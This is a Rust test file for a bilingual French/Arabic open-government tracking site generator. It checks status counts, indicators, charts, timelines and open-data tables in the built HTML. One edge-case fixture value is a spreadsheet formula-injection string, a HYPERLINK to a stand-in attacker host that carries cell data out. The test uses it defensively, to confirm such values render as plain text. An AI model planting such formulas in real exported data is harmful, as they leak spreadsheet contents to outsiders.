//! What the view models of src/render/ put on the built pages, read back from the HTML a
//! citizen gets, in French and in Arabic: the counts by status, the notes under a plan,
//! a sheet's figures, its indicators and its activities, the group pages, the pager of
//! the lists. Each test builds a fixture with the real binary (once per fixture and
//! date, shared by the tests of this file).

mod common;

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Mutex, OnceLock};

fn manifest() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// Builds the site at `root` as of `as_of` into `dir/public`.
fn build_into(root: &Path, dir: &Path, as_of: &str) -> PathBuf {
    let out = dir.join("public");
    let result = Command::new(env!("CARGO_BIN_EXE_shafaf"))
        .args(["build", "--quiet", "--root", root.to_str().unwrap(), "--out", out.to_str().unwrap(), "--as-of", as_of])
        .output()
        .expect("run shafaf");
    assert!(result.status.success(), "{}", String::from_utf8_lossy(&result.stderr));
    out
}

/// `fixture` (a folder of tests/fixtures, or "." for the portal's own content) built as
/// of `as_of`, once for all the tests of this file.
fn built(fixture: &str, as_of: &str) -> &'static Path {
    static BUILT: OnceLock<Mutex<BTreeMap<(String, String), &'static Path>>> = OnceLock::new();
    let mut map = BUILT.get_or_init(Default::default).lock().unwrap_or_else(|e| e.into_inner());
    map.entry((fixture.to_string(), as_of.to_string())).or_insert_with(|| {
        let root = if fixture == "." { manifest().to_path_buf() } else { manifest().join("tests/fixtures").join(fixture) };
        // The folder outlives the test process (a static is never dropped): it goes
        // under target/tmp, which `cargo clean` empties, not the system's /tmp.
        let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap().keep();
        build_into(&root, &dir, as_of).leak()
    })
}

/// A copy of the fixture `fixture` (or "." for the portal's own content), changed by
/// `change`, built as of `as_of`.
fn built_changed(fixture: &str, as_of: &str, change: impl FnOnce(&Path)) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("site");
    let from = if fixture == "." { manifest().to_path_buf() } else { manifest().join("tests/fixtures").join(fixture) };
    common::copy_tree(&from.join("content"), &root.join("content"));
    change(&root);
    let out = build_into(&root, dir.path(), as_of);
    (dir, out)
}

fn page(out: &Path, path: &str) -> String {
    fs::read_to_string(out.join(path).join("index.html")).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// The part of a page from the first `from` to the next `to` after it.
fn between<'a>(html: &'a str, from: &str, to: &str) -> &'a str {
    let start = html.find(from).unwrap_or_else(|| panic!("no {from}"));
    let after = start + from.len();
    let end = html[after..].find(to).map_or(html.len(), |e| after + e + to.len());
    &html[start..end]
}

/// Every part of a page from a `from` to the next `to` after it.
fn all_between<'a>(html: &'a str, from: &str, to: &str) -> Vec<&'a str> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find(from) {
        let after = start + from.len();
        let end = rest[after..].find(to).map_or(rest.len(), |e| after + e + to.len());
        found.push(&rest[start..end]);
        rest = &rest[end..];
    }
    found
}

/// A list of counts by status as the page draws it: (CSS class, label, count).
fn counts(list: &str) -> Vec<(String, String, String)> {
    all_between(list, "<li>", "</li>")
        .into_iter()
        .map(|li| {
            let class = between(li, "class=\"badge s-", "\"");
            let class = &class["class=\"badge s-".len()..class.len() - 1];
            let label = between(li, "\">", "</span>");
            let label = &label[2..label.len() - "</span>".len()];
            let count = between(li, "<bdi>", "</bdi>");
            let count = &count["<bdi>".len()..count.len() - "</bdi>".len()];
            (class.to_string(), label.to_string(), count.to_string())
        })
        .collect()
}

fn owned(list: &[(&str, &str, &str)]) -> Vec<(String, String, String)> {
    list.iter().map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string())).collect()
}

/// The dashboard counts the commitments and the activities by status, only the statuses
/// that have some, in the order of the statuses, with each status named in the page's
/// language.
#[test]
fn the_dashboard_counts_commitments_and_activities_by_status() {
    let out = built("feeds-site", "2025-06-15");
    for (lang, names) in [
        ("fr", ["Non démarré", "Non renseigné", "En cours", "Réalisé", "Annulé"]),
        ("ar", ["لم ينطلق", "بدون تقرير", "في طور الإنجاز", "منجز", "ملغى"]),
    ] {
        let html = page(out, lang);
        let overview = between(&html, "id=\"overall-h\"", "</section>");
        let lists = all_between(overview, "<ul class=\"counts\">", "</ul>");
        assert_eq!(lists.len(), 2, "{lang}: {overview}");
        assert_eq!(counts(lists[0]), owned(&[("not-reported", names[1], "1"), ("in-progress", names[2], "2")]), "{lang}: commitments");
        assert_eq!(
            counts(lists[1]),
            owned(&[
                ("not-started", names[0], "1"),
                ("not-reported", names[1], "1"),
                ("in-progress", names[2], "2"),
                ("completed", names[3], "1"),
                ("cancelled", names[4], "1"),
            ]),
            "{lang}: activities"
        );
        // The plan's card counts its own commitments the same way.
        let card = between(&html, "<li class=\"card\">", "</ul>");
        assert_eq!(counts(card), owned(&[("not-reported", names[1], "1"), ("in-progress", names[2], "2")]), "{lang}: the plan's card");
    }
}

/// A plan whose commitments all had a recent report says nothing about stale ones; a
/// plan with some says how many.
#[test]
fn a_plan_card_notes_its_stale_commitments_only_when_it_has_some() {
    let out = built("edge-site", "2025-06-15");
    let html = page(out, "fr");
    assert!(html.contains("<p class=\"stale\">Engagements sans rapport depuis plus de 6 mois : 1</p>"), "{html}");
    let html = page(out, "ar");
    assert!(html.contains("<p class=\"stale\">التزامات دون أي تقرير منذ أكثر من 6 أشهر: 1</p>"), "{html}");
    // Without its one stale commitment, the plan has none to note.
    let (_dir, out) = built_changed("edge-site", "2025-06-15", |root| {
        fs::remove_file(root.join("content/plans/2024-2027/commitments/stale-work.yaml")).unwrap();
    });
    for lang in ["fr", "ar"] {
        let html = page(&out, lang);
        assert!(html.contains("<li class=\"card\">"), "{lang}: the plan's card");
        assert!(!html.contains("class=\"stale\""), "{lang}: no stale commitment, no note: {html}");
    }
}

/// The text of some HTML, tags removed and the few entities the pages use decoded.
fn text(html: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for ch in html.chars() {
        match ch {
            '<' => in_tag = true,
            '>' if in_tag => in_tag = false,
            _ if !in_tag => out.push(ch),
            _ => {}
        }
    }
    out.replace("&#39;", "'").replace("&quot;", "\"").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
}

/// The rows of the first table in `html`, each as the text of its cells.
fn table_rows(html: &str) -> Vec<Vec<String>> {
    let body = between(html, "<tbody>", "</tbody>");
    all_between(body, "<tr>", "</tr>")
        .into_iter()
        .map(|tr| {
            all_between(&tr["<tr>".len()..], "<t", "</t")
                .into_iter()
                .map(|cell| text(&format!("<{}", &cell[1..])).trim().to_string())
                .collect()
        })
        .collect()
}

/// The terms and descriptions of the first `<dl>` in `html`.
fn facts_list(html: &str) -> Vec<(String, String)> {
    let dl = between(html, "<dl", "</dl>");
    all_between(dl, "<dt>", "</dd>")
        .into_iter()
        .map(|pair| {
            let (term, description) = pair.split_once("</dt>").unwrap();
            (text(term), text(description))
        })
        .collect()
}

fn rows(list: &[&[&str]]) -> Vec<Vec<String>> {
    list.iter().map(|row| row.iter().map(|c| c.to_string()).collect()).collect()
}

/// A sheet's indicators, tracking and impact apart, each with its unit, baseline, target
/// (with its date when it has one) and values in the page's language, numbers and
/// percentages as the language writes them, words as written; a chart when every value
/// is a number.
#[test]
fn a_sheets_indicators_show_their_measures_in_the_pages_language() {
    let out = built("valid-site", "2025-06-30");
    for (lang, unit, count, percent, actual, forecast, june, chart) in [
        ("fr", "Unité", "Nombre", "Pourcentage", "Réalisé", "Prévision", "juin 2025", "Graphique des valeurs de l'indicateur : "),
        ("ar", "الوحدة", "عدد", "نسبة مئوية", "محقق", "توقع", "يونيو 2025", ""),
    ] {
        let html = page(out, &format!("{lang}/plans/2024-2027/commitments/open-data"));
        let tracking = between(&html, "id=\"ind-tracking-h\"", "</section>\n</section>");
        let impact = between(&html, "id=\"ind-impact-h\"", "</section>\n</section>");
        assert_eq!(all_between(tracking, "<section class=\"indicator\"", "</section>").len(), 1, "{lang}");
        assert!(tracking.contains("<h3 id=\"indicator-1-h\">"), "{lang}: the first indicator is the tracking one");
        assert!(impact.contains("<h3 id=\"indicator-2-h\">"), "{lang}: the second is the impact one");
        let baseline_target = |section: &str| facts_list(section).into_iter().map(|(_, d)| d).collect::<Vec<_>>();
        assert_eq!(facts_list(tracking)[0], (unit.to_string(), count.to_string()), "{lang}");
        assert_eq!(baseline_target(tracking), [count, "1200", "2000 (2027)"], "{lang}");
        assert_eq!(baseline_target(impact), [percent, "40\u{202f}%", "80\u{202f}%"], "{lang}");
        assert_eq!(
            table_rows(tracking),
            rows(&[&["2024", "1350", actual], &[june, "1520", actual], &["2026", "1800", forecast]]),
            "{lang}"
        );
        assert_eq!(table_rows(impact), rows(&[&["2022", "65,44\u{202f}%", actual]]), "{lang}");
        // Three numbers: a chart of three bars titled after the indicator.
        let svg = between(tracking, "<figure><svg class=\"indicator-chart\"", "</svg></figure>");
        assert_eq!(svg.matches("<rect ").count(), 3, "{lang}");
        assert_reading_order(lang, &bar_xs(svg));
        assert!(svg.contains("<title id=\"indicator-1-t\">"), "{lang}");
        if !chart.is_empty() {
            assert!(text(svg).contains(&format!("{chart}Nombre de jeux de données publiés")), "{lang}: {svg}");
        }
    }
    // Measures written as words are shown as written, and an indicator with such a value
    // has no chart, where its neighbour of numbers has one.
    let out = built("edge-site", "2025-06-15");
    for (lang, qualitative, actual, forecast, target) in
        [("fr", "Qualitatif", "Réalisé", "Prévision", "Cible"), ("ar", "وصفي", "محقق", "توقع", "مستهدف")]
    {
        let html = page(out, &format!("{lang}/plans/2024-2027/commitments/formulas"));
        let impact = between(&html, "id=\"ind-impact-h\"", "</section>\n</section>");
        let tracking = between(&html, "id=\"ind-tracking-h\"", "</section>\n</section>");
        assert_eq!(
            facts_list(impact).into_iter().map(|(_, d)| d).collect::<Vec<_>>(),
            [qualitative, "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Cliquez\")", "+1 rang (2026)"],
            "{lang}"
        );
        assert_eq!(
            table_rows(impact),
            rows(&[
                &["2024", "-3 places", actual],
                &["2025", "@SUM(A1:A9)", forecast],
                &["2026", "cible", target],
                &["2027", "ligne", target]
            ]),
            "{lang}"
        );
        assert!(!impact.contains("<svg"), "{lang}: no chart of words");
        assert!(tracking.contains("<figure><svg class=\"indicator-chart\""), "{lang}: a chart of numbers");
        assert_eq!(
            facts_list(tracking).into_iter().map(|(_, d)| d).collect::<Vec<_>>()[1..],
            ["-5\u{202f}%", "12,5\u{202f}% (2027)"],
            "{lang}"
        );
    }
}

/// The links (href) of the `<h3>` headings of `html`, in order.
fn card_links(html: &str) -> Vec<String> {
    all_between(html, "<h3><a href=\"", "\"").into_iter().map(|h| h["<h3><a href=\"".len()..h.len() - 1].to_string()).collect()
}

/// The portal's own plans as of November 2026: the running plan leads, the ended ones
/// follow newest first, and an ended plan with a figure says its last one and when it
/// was reported, which a running plan or one without figures does not.
#[test]
fn ended_plans_follow_the_running_one_with_their_final_figure() {
    let out = built(".", "2026-11-01");
    for (lang, final_figure) in [("fr", "Dernier chiffre déclaré : "), ("ar", "آخر نسبة مُبلَّغ عنها: ")] {
        let html = page(out, lang);
        let running = between(&html, "id=\"plans-running-h\"", "</section>");
        let other = between(&html, "id=\"plans-other-h\"", "</section>");
        assert_eq!(card_links(running), [format!("/{lang}/plans/2024-2027/")], "{lang}");
        assert_eq!(
            card_links(other),
            ["settat-2024-2025", "open-parliament", "2021-2023", "open-parliament-2019-2021"].map(|p| format!("/{lang}/plans/{p}/")),
            "{lang}"
        );
        let figures: Vec<String> =
            all_between(&html, "<p>", "</p>").into_iter().map(text).filter(|p| p.starts_with(final_figure)).collect();
        let (march, year) = if lang == "fr" { ("28 mars 2023", "2022") } else { ("28 مارس 2023", "2022") };
        assert_eq!(
            figures,
            [format!("{final_figure}74,5\u{202f}% ({march})"), format!("{final_figure}100\u{202f}% ({year})")],
            "{lang}: the two ended plans with figures, in their cards' order"
        );
        assert!(!running.contains(final_figure), "{lang}");
    }
}

/// The dashboard's tables of areas and institutions: every area in the site's order,
/// one without commitments too; only the institutions with commitments, the most
/// first; each with its count and its mean, or a dash when nothing was reported.
#[test]
fn the_dashboard_lists_areas_and_the_institutions_with_commitments() {
    let out = built("feeds-site", "2025-06-15");
    for lang in ["fr", "ar"] {
        let html = page(out, lang);
        let rows_of = |id: &str| -> Vec<(String, String, String)> {
            let section = between(&html, &format!("id=\"{id}\""), "</section>");
            let body = between(section, "<tbody>", "</tbody>");
            all_between(body, "<tr>", "</tr>")
                .into_iter()
                .map(|tr| {
                    let href = between(tr, "href=\"", "\"");
                    let cells: Vec<String> = all_between(tr, "<td>", "</td>").into_iter().map(text).collect();
                    (href["href=\"".len()..href.len() - 1].to_string(), cells[0].clone(), cells[1].clone())
                })
                .collect()
        };
        let group = |kind: &str, id: &str, n: &str, mean: &str| (format!("/{lang}/{kind}/{id}/"), n.to_string(), mean.to_string());
        assert_eq!(
            rows_of("areas-h"),
            [
                group("areas", "transparency", "1", "50,8\u{202f}%"),
                group("areas", "participation", "2", "65\u{202f}%"),
                group("areas", "unused-area", "0", "—"),
            ],
            "{lang}"
        );
        assert_eq!(
            rows_of("inst-h"),
            [group("institutions", "city-council", "2", "65\u{202f}%"), group("institutions", "digital-ministry", "1", "50,8\u{202f}%")],
            "{lang}: the watchdog leads nothing"
        );
    }
}

/// The lines of a sheet's status box, as text: the figure, the status, the last report,
/// where the figure comes from, the activities reported and the stale note.
fn status_box(html: &str) -> Vec<String> {
    let status = between(html, "id=\"status-h\"", "<p class=\"no-print\">");
    let figure = between(status, "<bdi class=\"pct\">", "</bdi>");
    std::iter::once(text(figure))
        .chain(all_between(status, "<p", "</p>").into_iter().map(|p| text(&format!("<p{}", &p[2..]))))
        .filter(|line| !line.is_empty())
        .collect()
}

/// A sheet's status box says where its figure comes from when a reader could wonder
/// (the sheet's own report beside activities, or the activities' mean), how many of its
/// activities reported, when it was last reported, and warns when that is long ago.
#[test]
fn a_sheets_status_box_says_where_its_figure_comes_from() {
    let out = built("valid-site", "2025-06-30");
    let sheet = |lang: &str, id: &str| page(out, &format!("{lang}/plans/2024-2027/commitments/{id}"));
    assert_eq!(
        status_box(&sheet("fr", "open-data")),
        [
            "75\u{202f}%",
            "En cours",
            "Aucun rapport à ce jour",
            "Moyenne pondérée des activités dont l'avancement a été déclaré.",
            "Activités avec un avancement déclaré : 2 sur 2",
            "Aucun rapport depuis plus de 6 mois : ces chiffres peuvent ne plus refléter la situation.",
        ]
    );
    assert_eq!(
        status_box(&sheet("ar", "open-data")),
        [
            "75\u{202f}%",
            "في طور الإنجاز",
            "لا يوجد أي تقرير إلى حد الآن",
            "متوسط مرجح للأنشطة التي بُلِّغ عن تقدمها.",
            "الأنشطة التي بُلِّغ عن تقدمها: 2 من أصل 2",
            "لم يُقدَّم أي تقرير منذ أكثر من 6 أشهر: قد لا تعكس هذه الأرقام الوضع الحالي.",
        ]
    );
    // A sheet without activities: its own figure, nothing to explain or count.
    assert_eq!(
        status_box(&sheet("fr", "parliament-open-data")),
        [
            "65\u{202f}%",
            "En cours",
            "Aucun rapport à ce jour",
            "Aucun rapport depuis plus de 6 mois : ces chiffres peuvent ne plus refléter la situation.",
        ]
    );
    // The sheet's own dated report, newer than any of its activities': its figure is
    // the sheet's, and the page says so.
    let (_dir, out) = built_changed("valid-site", "2025-06-30", |root| {
        let file = root.join("content/plans/2024-2027/commitments/access-to-information.yaml");
        let text = fs::read_to_string(&file).unwrap();
        fs::write(&file, format!("{text}updates:\n  - date: 2025-05-01\n    progress: 55\n    by: digital-transition\n")).unwrap();
    });
    let sheet = |lang: &str| page(&out, &format!("{lang}/plans/2024-2027/commitments/access-to-information"));
    assert_eq!(
        status_box(&sheet("fr")),
        [
            "55\u{202f}%",
            "En cours",
            "Dernier rapport : 1er mai 2025",
            "Chiffre déclaré pour l'engagement dans son ensemble.",
            "Activités avec un avancement déclaré : 2 sur 2",
        ]
    );
    assert_eq!(
        status_box(&sheet("ar")),
        ["55\u{202f}%", "في طور الإنجاز", "آخر تقرير: 1 ماي 2025", "نسبة مُبلَّغ عنها للالتزام ككل.", "الأنشطة التي بُلِّغ عن تقدمها: 2 من أصل 2"]
    );
}

/// The x of each bar (`<rect`) of an SVG chart, in the order drawn.
fn bar_xs(svg: &str) -> Vec<f64> {
    all_between(svg, "<rect ", ">")
        .into_iter()
        .map(|rect| {
            let x = between(rect, " x=\"", "\"");
            x[" x=\"".len()..x.len() - 1].parse().unwrap()
        })
        .collect()
}

/// The titles (`<title>`) of the bars of an SVG chart, in the order drawn.
fn bar_titles(svg: &str) -> Vec<String> {
    all_between(svg, "<rect ", "</rect>").into_iter().map(|rect| text(between(rect, "<title>", "</title>"))).collect()
}

/// Charts run from right to left in Arabic: the first bar, the oldest, is on the right.
fn assert_reading_order(lang: &str, xs: &[f64]) {
    let ordered: Vec<f64> = if lang == "ar" { xs.iter().rev().copied().collect() } else { xs.to_vec() };
    assert!(ordered.windows(2).all(|w| w[0] < w[1]), "{lang}: bars at {xs:?}");
}

/// A sheet's activities, numbered from 1, each with its dates, figure, status and
/// details; an activity past its end says so, with or without a figure; the timeline
/// draws each bar with its description, right to left in Arabic, and says where the
/// as-of date is; two dated reports or more draw the figure over time.
#[test]
fn a_sheets_activities_and_their_timeline() {
    let out = built("valid-site", "2025-06-30");
    for (lang, titles, as_of_line) in [
        (
            "fr",
            [
                "Activité 1: juin 2024 – décembre 2025, 50\u{202f}% (En cours)",
                "Activité 2: septembre 2024 – 30 novembre 2024, 100\u{202f}% (Réalisé)",
                "Activité 3: mars 2025 – avril 2025, Aucun avancement déclaré à ce jour (Annulé)",
            ],
            "la ligne verticale marque le 30 juin 2025.",
        ),
        (
            "ar",
            [
                "النشاط 1: يونيو 2024 – دجنبر 2025, 50\u{202f}% (في طور الإنجاز)",
                "النشاط 2: شتنبر 2024 – 30 نونبر 2024, 100\u{202f}% (منجز)",
                "النشاط 3: مارس 2025 – أبريل 2025, لم يُبلَّغ عن أي تقدم إلى حد الآن (ملغى)",
            ],
            "الخط العمودي يشير إلى تاريخ 30 يونيو 2025.",
        ),
    ] {
        let html = page(out, &format!("{lang}/plans/2024-2027/commitments/open-data"));
        let activities = between(&html, "id=\"activities-h\"", "</section>");
        let table = between(activities, "<table class=\"activities\">", "</table>");
        let numbers: Vec<String> = table_rows(table).into_iter().map(|row| row[0].clone()).collect();
        assert_eq!(numbers, ["1", "2", "3"], "{lang}");
        assert!(!table.contains("class=\"overdue\""), "{lang}: nothing is past its end on 30 June 2025");
        assert!(table.contains("<bdi>120\u{202f}000 MAD</bdi>"), "{lang}: the cost");
        let svg = between(activities, "<svg class=\"gantt\"", "</svg>");
        assert_eq!(bar_titles(svg), titles, "{lang}");
        assert!(text(between(svg, "<desc", "</desc>")).contains(as_of_line), "{lang}");
        assert!(text(svg).ends_with(if lang == "fr" { "au 30 juin 2025" } else { "إلى غاية 30 يونيو 2025" }), "{lang}");
        // The row labels stand at the start of the lines: on the left in French, on the
        // right in Arabic, and the first activity's bar, which starts first, with them.
        let labels = all_between(svg, "<text class=\"row-label\"", "</text>");
        assert_eq!(labels.len(), 3);
        let (label_x, anchor) = if lang == "fr" { ("x=\"4\"", "start") } else { ("x=\"756\"", "end") };
        assert!(labels.iter().all(|l| l.contains(label_x) && l.contains(&format!("text-anchor=\"{anchor}\""))), "{lang}: {labels:?}");
        let xs = bar_xs(svg);
        if lang == "fr" { assert!(xs[0] < xs[1], "{xs:?}") } else { assert!(xs[0] < xs[1] && xs[0] < 50.0, "{xs:?}") }
    }
    // Past its end: with a figure, or without one.
    let out = built("valid-site", "2026-02-01");
    for (lang, note) in [("fr", "Échéance dépassée (décembre 2025)"), ("ar", "تجاوز موعد انتهائه (دجنبر 2025)")] {
        let html = page(out, &format!("{lang}/plans/2024-2027/commitments/open-data"));
        let notes: Vec<String> = all_between(&html, "<small class=\"overdue\">", "</small>").into_iter().map(text).collect();
        assert_eq!(notes, [note], "{lang}: the first activity, 50 % done, ended in December 2025");
    }
    let out = built("feeds-site", "2025-06-15");
    for (lang, note) in [
        ("fr", "Échéance dépassée (février 2025), aucun avancement déclaré"),
        ("ar", "تجاوز موعد انتهائه (فبراير 2025) دون أي تقرير عن التقدم"),
    ] {
        let html = page(out, &format!("{lang}/plans/2024-2027/commitments/citizen-petitions"));
        let notes: Vec<String> = all_between(&html, "<small class=\"overdue\">", "</small>").into_iter().map(text).collect();
        assert_eq!(notes, [note], "{lang}");
        // Two dated reports: the figure over time, oldest first in the reading order.
        let html = page(out, &format!("{lang}/plans/2024-2027/commitments/open-data"));
        let chart = between(&html, "aria-labelledby=\"progress-chart-t\"", "</svg>");
        assert_eq!(bar_titles(chart).len(), 2, "{lang}");
        assert_reading_order(lang, &bar_xs(chart));
    }
    // The as-of date past the last activity's year is off the chart, and said so.
    let out = built("valid-site", "2027-06-01");
    let html = page(out, "fr/plans/2024-2027/commitments/open-data");
    assert!(
        text(between(&html, "<desc id=\"timeline-d\">", "</desc>")).contains("le 1er juin 2027 est hors de la période affichée"),
        "{html}"
    );
}

/// A sheet's participation table (a count not given is a dash, never 0) and its
/// independent assessments, in the page's language.
#[test]
fn a_sheets_participation_and_assessments() {
    let out = built("valid-site", "2025-06-30");
    for (lang, rows_expected, verdict) in [
        (
            "fr",
            [
                ["17 mai 2023", "Atelier de concertation sur les données ouvertes à Rabat", "En présentiel", "43", "16", "31"],
                ["juin 2023", "Consultation publique en ligne", "En ligne", "—", "—", "12"],
            ],
            "En cours Évalué par: Association Observatoire de la transparence · janvier 2025 · https://example.org/rapports/suivi-2025",
        ),
        (
            "ar",
            [
                ["17 ماي 2023", "ورشة تشاورية حول المعطيات المفتوحة بالرباط", "حضوريا", "43", "16", "31"],
                ["يونيو 2023", "استشارة عمومية عبر الإنترنت", "عن بعد", "—", "—", "12"],
            ],
            "",
        ),
    ] {
        let html = page(out, &format!("{lang}/plans/2024-2027/commitments/open-data"));
        let participation = between(&html, "id=\"participation-h\"", "</section>");
        assert_eq!(table_rows(participation), rows_expected.map(|r| r.map(str::to_string).to_vec()), "{lang}");
        let assessments = between(&html, "id=\"assessments-h\"", "</section>");
        let first = text(between(assessments, "<p>", "</p>"));
        assert!(assessments.contains("<span class=\"badge v-in-progress\">"), "{lang}");
        assert!(assessments.contains("href=\"https://example.org/rapports/suivi-2025\""), "{lang}");
        assert!(assessments.contains(&format!("href=\"/{lang}/institutions/transparency-watch/\"")), "{lang}");
        if !verdict.is_empty() {
            assert_eq!(first, verdict);
        }
    }
}

/// A size as the open-data page writes it: bytes under 1 KiB, else KiB under 1 MiB,
/// else MiB, with one decimal at most and a decimal comma.
fn human_size(bytes: u64, units: [&str; 3]) -> String {
    let (value, unit) = if bytes >= 1 << 20 {
        (bytes as f64 / (1 << 20) as f64, units[2])
    } else if bytes >= 1 << 10 {
        (bytes as f64 / (1 << 10) as f64, units[1])
    } else {
        (bytes as f64, units[0])
    };
    let number = format!("{value:.1}");
    let number = number.strip_suffix(".0").unwrap_or(&number).replace('.', ",");
    format!("{number}\u{a0}{unit}")
}

/// The open-data page's table of files, checked against the files of the built site:
/// each shared file linked, with its format and its size, then one row for the
/// commitments' own files, with their count and their total size.
fn check_open_data_table(out: &Path, lang: &str, units: [&str; 3], count_label: &str) -> Vec<String> {
    let html = page(out, &format!("{lang}/open-data"));
    let table = between(&html, "<table class=\"files\">", "</table>");
    let mut sizes = Vec::new();
    let rows = all_between(table, "<tr><th scope=\"row\">", "</tr>");
    assert!(rows.len() > 10, "{lang}: {table}");
    let (last, shared) = rows.split_last().unwrap();
    for row in shared {
        let href = between(row, "href=\"", "\"");
        let href = &href["href=\"".len()..href.len() - 1];
        let cells: Vec<String> = all_between(row, "<bdi>", "</bdi>").into_iter().map(text).collect();
        let file = out.join(href.trim_start_matches('/'));
        let bytes = fs::metadata(&file).unwrap_or_else(|e| panic!("{href}: {e}")).len();
        assert_eq!(format!("/data/v1/{}", cells[0]), href, "{lang}: the name is the file's path");
        let format = if href.contains("/schema/") {
            "JSON Schema".to_string()
        } else if href.ends_with(".ttl") {
            "TURTLE".to_string()
        } else {
            href.rsplit('.').next().unwrap().to_uppercase()
        };
        assert_eq!(cells[1], format, "{lang}: {href}");
        assert_eq!(cells[2], human_size(bytes, units), "{lang}: {href} has {bytes} bytes");
        sizes.push(cells[2].clone());
    }
    // The commitments' own files: one row for all, linked to the index that lists them.
    let commitments = out.join("data/v1/plans/2024-2027/commitments");
    let own: Vec<u64> = fs::read_dir(&commitments).unwrap().map(|e| e.unwrap().metadata().unwrap().len()).collect();
    let cells: Vec<String> = all_between(last, "<bdi>", "</bdi>").into_iter().map(text).collect();
    assert!(last.contains("href=\"/data/v1/index.json\""), "{lang}: {last}");
    assert_eq!(cells[0], format!("plans/PLAN/commitments/ID.json ({})", count_label.replace("{n}", &own.len().to_string())), "{lang}");
    assert_eq!(cells[1], "JSON", "{lang}");
    assert_eq!(cells[2], human_size(own.iter().sum(), units), "{lang}");
    sizes.push(cells[2].clone());
    sizes
}

/// The open-data page's table of files: sizes in bytes, kilobytes and, for a portal
/// with long texts, megabytes, in each language's units.
#[test]
fn the_open_data_page_gives_each_files_format_and_size() {
    const FR: [&str; 3] = ["o", "ko", "Mo"];
    const AR: [&str; 3] = ["بايت", "كيلوبايت", "ميغابايت"];
    let out = built("feeds-site", "2025-06-15");
    for (lang, units, count) in [("fr", FR, "{n} fichiers, listés dans index.json"), ("ar", AR, "{n} ملفات، مدرجة في index.json")]
    {
        let sizes = check_open_data_table(out, lang, units, count);
        assert!(sizes.iter().any(|s| s.ends_with(&format!("\u{a0}{}", units[0]))), "{lang}: some files under 1 KiB: {sizes:?}");
        assert!(sizes.iter().any(|s| s.ends_with(&format!("\u{a0}{}", units[1]))), "{lang}: some over: {sizes:?}");
    }
    // A commitment with a text of 1.5 MB: the files that hold it are counted in megabytes.
    let (_dir, out) = built_changed("feeds-site", "2025-06-15", |root| {
        let file = root.join("content/plans/2024-2027/commitments/citizen-petitions.yaml");
        let text = fs::read_to_string(&file).unwrap();
        let long = "Une phrase de quarante caractères environ. ".repeat(36_000);
        fs::write(&file, format!("{text}notes:\n  fr: \"{long}\"\n")).unwrap();
    });
    for (lang, units, count) in [("fr", FR, "{n} fichiers, listés dans index.json"), ("ar", AR, "{n} ملفات، مدرجة في index.json")]
    {
        let sizes = check_open_data_table(&out, lang, units, count);
        assert!(sizes.iter().filter(|s| s.ends_with(&format!("\u{a0}{}", units[2]))).count() >= 2, "{lang}: {sizes:?}");
    }
}

/// The commitments a group page lists in its table `key` (`led`, `partner` or
/// `commitments`), by their links.
fn listed(html: &str, key: &str) -> Vec<String> {
    if !html.contains(&format!("id=\"{key}-h\"")) {
        return Vec::new();
    }
    let table = between(html, &format!("id=\"{key}-h\""), "</table>");
    all_between(table, "<th scope=\"row\"><a href=\"", "\"")
        .into_iter()
        .map(|a| a["<th scope=\"row\"><a href=\"".len()..a.len() - 1].rsplit('/').nth(1).unwrap().to_string())
        .collect()
}

/// An institution's page: its acronym and kind, its website, the plans it owns, what it
/// leads and what it is a partner in, its figures; an area's page the same without
/// the institution's parts.
#[test]
fn group_pages_list_what_each_institution_and_area_holds() {
    let out = built("feeds-site", "2025-06-15");
    let meta = |html: &str| all_between(html, "<p class=\"meta\"><bdi>", "</bdi>").into_iter().map(text).collect::<Vec<_>>();
    let plans = |html: &str| -> Vec<String> {
        if !html.contains("<h2>") {
            return Vec::new();
        }
        let list = between(html, "<h2>", "</ul>");
        all_between(list, "href=\"", "\"").into_iter().map(|h| h["href=\"".len()..h.len() - 1].to_string()).collect()
    };
    for (lang, ministry, council, watchdog, counts) in [
        (
            "fr",
            "MTN · Gouvernement",
            "Collectivité territoriale",
            "Société civile",
            "1 engagements · Engagements avec un avancement déclaré : 1 sur 1 · Dernier rapport : 15 janvier 2025",
        ),
        ("ar", "و.ا.ر · الحكومة", "", "", "عدد الالتزامات: 1 · الالتزامات التي بُلِّغ عن تقدمها: 1 من أصل 1 · آخر تقرير: 15 يناير 2025"),
    ] {
        let html = page(out, &format!("{lang}/institutions/digital-ministry"));
        assert_eq!(meta(&html), [ministry], "{lang}");
        assert!(html.contains("<a href=\"https://digital.example.org/\">"), "{lang}: the website");
        assert_eq!(plans(&html), [format!("/{lang}/plans/2024-2027/")], "{lang}: the plan it owns");
        assert!(all_between(&html, "<p>", "</p>").into_iter().map(text).any(|p| p == counts), "{lang}");
        assert!(html.contains(&format!("href=\"/{lang}/institutions/digital-ministry/report/\"")), "{lang}: its report");
        assert_eq!(listed(&html, "led"), ["open-data"], "{lang}");
        assert_eq!(listed(&html, "partner"), Vec::<String>::new(), "{lang}");

        let html = page(out, &format!("{lang}/institutions/city-council"));
        if !council.is_empty() {
            assert_eq!(meta(&html), [council], "{lang}: no acronym, the kind alone");
        }
        assert_eq!(plans(&html), Vec::<String>::new(), "{lang}: owns no plan");
        assert_eq!(listed(&html, "led"), ["participatory-budget", "citizen-petitions"], "{lang}");
        assert_eq!(listed(&html, "partner"), ["open-data"], "{lang}");

        let html = page(out, &format!("{lang}/institutions/watchdog"));
        if !watchdog.is_empty() {
            assert_eq!(meta(&html), [watchdog], "{lang}");
        }
        assert_eq!(listed(&html, "led"), Vec::<String>::new(), "{lang}");
        assert_eq!(listed(&html, "partner"), ["open-data"], "{lang}");

        let html = page(out, &format!("{lang}/areas/participation"));
        assert_eq!(meta(&html), Vec::<String>::new(), "{lang}: an area has no subtitle");
        assert_eq!(plans(&html), Vec::<String>::new(), "{lang}");
        assert!(!html.contains("/report/\""), "{lang}: nor a printable report");
        assert_eq!(listed(&html, "commitments"), ["participatory-budget", "citizen-petitions"], "{lang}");
    }
}

/// The links of `html` as (href, text) pairs.
